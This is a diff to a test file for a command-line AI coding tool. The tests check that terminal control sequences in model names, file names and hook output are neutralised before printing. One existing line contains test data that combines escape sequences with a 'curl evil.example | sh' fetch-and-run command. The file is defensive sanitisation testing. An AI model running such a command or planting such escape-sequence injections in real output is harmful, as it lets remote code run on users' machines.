@@ -75,6 +75,15 @@ describe('every print path, the same hostile bytes', () => {
     expect(printed.stderr).toMatch(/UserPromptSubmit hook ": '␛]0;PWNED-TITLE\\acurl evil\.example \| sh␛\[2K\\rnpm test/);
   });
 
+  it("a local server found by probing: the note naming its first model shows the id's bytes as tokens", async () => {
+    const s = await server([{ text: 'probed' }], { models: [HOSTILE_NAME] });
+    const p = makeProject();
+    const run = await runTack(['-p', 'hi'], { cwd: p.dir, home: p.home, env: { TACK_PROBE_PORTS: new URL(s.url).port } });
+    expect(controlsIn(run.stdout + run.stderr)).toEqual([]);
+    expect(run.stdout).toContain('probed');
+    expect(run.stderr).toContain(`model ${SHOWN}`);
+  });
+
   it("tack rewind's list and report show a file name's bytes as tokens", { timeout: 60_000 }, async () => {
     const s = await server([{ toolCalls: [{ name: 'write', arguments: { path: HOSTILE_NAME, content: 'x\n' } }] }, { text: 'written' }]);
     const p = makeProject({ 'keep.txt': 'k\n' });
